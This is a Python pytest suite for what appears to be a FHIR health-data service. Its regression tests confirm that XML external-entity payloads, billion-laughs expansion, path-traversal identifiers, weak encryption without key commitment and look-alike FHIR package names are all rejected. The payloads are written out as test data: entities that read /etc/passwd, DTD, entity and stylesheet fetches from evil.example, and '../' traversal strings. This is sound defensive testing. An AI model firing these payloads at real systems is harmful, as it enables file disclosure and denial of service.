"""What others parsed, unpacked, decrypted or installed, and must not: rows 10, 11, 18 and 20."""

from __future__ import annotations

import gzip
import json
import re
from importlib.metadata import version
from typing import Any

import pytest
from aws_encryption_sdk import CommitmentPolicy, EncryptionSDKClient
from aws_encryption_sdk.identifiers import Algorithm

from dmp.adapters import envelope
from dmp.adapters.envelope import Ring, Unopenable
from tests.doors import DOORS, FORM
from tests.house.sources import ROOT, imports, name, python_files
from tests.memory import memory_of
from tests.never_again.egress import heard
from tests.never_again.stage import Stage
from tests.scenes import observation

OWNER = "owner"
SERVED = python_files("shared", "functions")
ENTITY = '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
XML = f'<?xml version="1.0"?>{ENTITY}<Observation xmlns="http://hl7.org/fhir"><id value="&e;"/>'
XML_TYPES = ["application/fhir+xml", "application/xml", "text/xml", "application/xhtml+xml"]
READING = [door for door in DOORS if door.body and door.headers != FORM]


def imported(*tops: str) -> set[tuple[str, str]]:
    """(file, module) of what ships and imports one of these."""
    return {
        (name(path), module)
        for path in SERVED
        for module, _ in imports(path)
        if module.partition(".")[0] in tops
    }


@pytest.mark.parametrize("media_type", XML_TYPES)
def test_cve_2026_55471_no_door_reads_xml(stage: Stage, media_type: str) -> None:
    with heard() as events:
        for door in READING:
            method, _, url = door.request.partition(" ")
            reply = stage.ask(OWNER, f"{method} {url}", XML, Content_Type=media_type)
            assert reply.status == 415, door.name
            reply = stage.ask(OWNER, f"{method} {url}", XML, **door.headers)
            assert "not JSON" in reply.body, door.name
            assert "root:" not in reply.body
    assert not stage.changed()
    assert not events.opened("passwd")


def test_cve_2026_55471_no_door_answers_in_xml(stage: Stage) -> None:
    for query, accept in (("", "application/fhir+xml"), ("?_format=xml", "*/*")):
        assert stage.ask(OWNER, f"GET /fhir/{{lab}}{query}", Accept=accept).status == 406


def test_cve_2024_45294_and_cve_2024_52007_no_parser_resolves_an_entity() -> None:
    """Narrative is read by expat alone, which resolves nothing unless it is told how."""
    parsers = imported("xml", "lxml", "defusedxml", "xmltodict", "bs4", "html5lib", "saxonche")
    told = re.compile("ExternalEntity|SetParamEntityParsing|UseForeignDTD")

    assert {module for _, module in parsers} == {"xml.parsers"}
    assert [name(p) for p in SERVED if told.search(p.read_text("utf-8"))] == []


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
DIVS = {
    "a file": (ENTITY, "&e;"),
    "a URL": ('<!DOCTYPE d [<!ENTITY e SYSTEM "http://evil.example/x">]>', "&e;"),
    "a parameter entity": ('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>', "x"),
    "a DTD": ('<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">', "x"),
    "laughs": (f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>', "&l11;"),
    "a style sheet": ('<?xml-stylesheet href="http://evil.example/x.xsl"?>', "x"),
}


@pytest.mark.parametrize("case", DIVS)
def test_cve_2024_51132_a_narrative_declares_nothing(stage: Stage, case: str) -> None:
    before, inside = DIVS[case]
    div = f'{before}<div xmlns="http://www.w3.org/1999/xhtml">{inside}</div>'
    body = observation(stage.scene, "new", text={"status": "generated", "div": div})

    with heard() as events:
        reply = stage.ask(OWNER, "POST /fhir/Observation", body)

    assert reply.status == 422
    assert "Observation.text.div" in reply.body
    assert (events.away, events.opened("passwd")) == ([], [])


@pytest.mark.parametrize("code", [ENTITY, XML, "{&e;}", "file:///etc/passwd", "mg/dL"])
def test_cve_2024_55887_units_come_from_json_and_are_no_xml(stage: Stage, code: str) -> None:
    table = json.loads(gzip.decompress((ROOT / "shared/dmp/fhir/ucum.json.gz").read_bytes()))
    quantity = {"value": 1, "system": "http://unitsofmeasure.org", "code": code}
    body = observation(stage.scene, "new", valueQuantity=quantity)

    with heard() as events:
        made = stage.ask(OWNER, "POST /fhir/Observation", body)
        form = f"patient={stage.scene.id}&value-quantity=1||x"
        found = stage.ask(OWNER, "POST /fhir/Observation/_search", form, **FORM)

    assert isinstance(table, dict)
    assert made.status in (201, 422)
    assert found.status in (200, 400)
    assert (events.away, events.opened("passwd")) == ([], [])


def test_cve_2023_24057_and_cve_2023_28465_nothing_is_unpacked() -> None:
    """No archive is read at run time: gzip and zlib hold one stream, and no names."""
    assert imported("zipfile", "tarfile", "shutil", "py7zr", "rarfile", "pathlib2") == set()


@pytest.mark.parametrize("hostile", ["../../../etc/passwd", "..%2f..%2fGUARD", "K#x", "a/../../b"])
def test_cve_2023_28465_no_key_is_a_clients_name(stage: Stage, hostile: str) -> None:
    attachment = {
        "contentType": "text/plain",
        "title": hostile,
        "url": f"https://x.example/{hostile}",
    }
    document = {
        "resourceType": "DocumentReference", "status": "current",
        "identifier": [{"value": hostile}],
        "subject": {"reference": f"Patient/{stage.scene.id}"},
        "content": [{"attachment": attachment}],
    }  # fmt: skip

    made = stage.ask(OWNER, "POST /fhir/DocumentReference", document, Idempotency_Key=hostile)

    assert made.status == 201, made.body
    assert made.json["content"][0]["attachment"]["title"] == hostile
    items = memory_of(stage.scene.world).engine.items
    assert not [key for key in items if any(hostile in part for part in key)]
    own, at = {**document, "id": hostile}, "/fhir/DocumentReference/" + hostile.replace("/", "%2f")
    assert stage.ask(OWNER, f"PUT {at}", own).status in (400, 404, 422)


def test_cve_2026_6550_the_library_is_one_that_is_mended() -> None:
    locked = re.findall(
        r"^aws-encryption-sdk==(\S+)", (ROOT / "requirements.lock").read_text(), re.MULTILINE
    )

    for found in (version("aws-encryption-sdk"), *locked):
        assert tuple(map(int, found.split("."))) >= (4, 0, 5)
    assert locked
    cached = [name(p) for p in SERVED if "CachingCryptoMaterialsManager" in p.read_text("utf-8")]
    assert cached == []


def test_cve_2026_6550_a_message_without_commitment_is_not_opened() -> None:
    policy = CommitmentPolicy.FORBID_ENCRYPT_ALLOW_DECRYPT
    ring = Ring("p", 1, {"record": b"k" * 32})
    source: dict[str, Any] = {
        "source": b"secret", "key_provider": ring._masters["record"],
        "encryption_context": {"p": "p", "u": "record", "i": "STANDING"},
    }  # fmt: skip
    for algorithm in (
        Algorithm.AES_256_GCM_IV12_TAG16_HKDF_SHA256, Algorithm.AES_256_GCM_IV12_TAG16,
    ):  # fmt: skip
        weak, _ = EncryptionSDKClient(commitment_policy=policy).encrypt(
            **source, algorithm=algorithm
        )
        with pytest.raises(Unopenable):
            ring.open("record", "STANDING", weak)

    required = CommitmentPolicy.REQUIRE_ENCRYPT_REQUIRE_DECRYPT
    assert envelope._SDK.config.commitment_policy is required
    assert ring.open("record", "STANDING", ring.seal("record", "STANDING", b"good")) == b"good"


# As in `hl7.fhir.r4.core`: FHIR packages have a registry of their own, and anyone may take such a
# name on npm or PyPI.
PACKAGE = re.compile(r"(?:^|/)(?:hl7|ihe|fhir)\.[\w.-]+$|^[\w-]+\.fhir\.[\w.-]+$")


def test_fhir_notice_2026_03_17_no_definitions_come_through_npm_or_pypi() -> None:
    """They are generated from the official files at hand (tests/fhir/test_generated.py)."""
    npm = json.loads((ROOT / "tests/e2e/clients/package-lock.json").read_text("utf-8"))["packages"]
    pypi = re.findall(
        r"^([\w.-]+)==", (ROOT / "requirements.lock").read_text("utf-8"), re.MULTILINE
    )

    assert PACKAGE.search("node_modules/hl7.fhir.r4.core")
    assert [one for one in (*npm, *pypi) if PACKAGE.search(one)] == []
    unsigned = [one for one, told in npm.items() if one and "integrity" not in told]
    assert unsigned == []
    code = python_files("shared", "functions", "infra")
    assert [name(p) for p in code if "packages.fhir.org" in p.read_text("utf-8")] == []
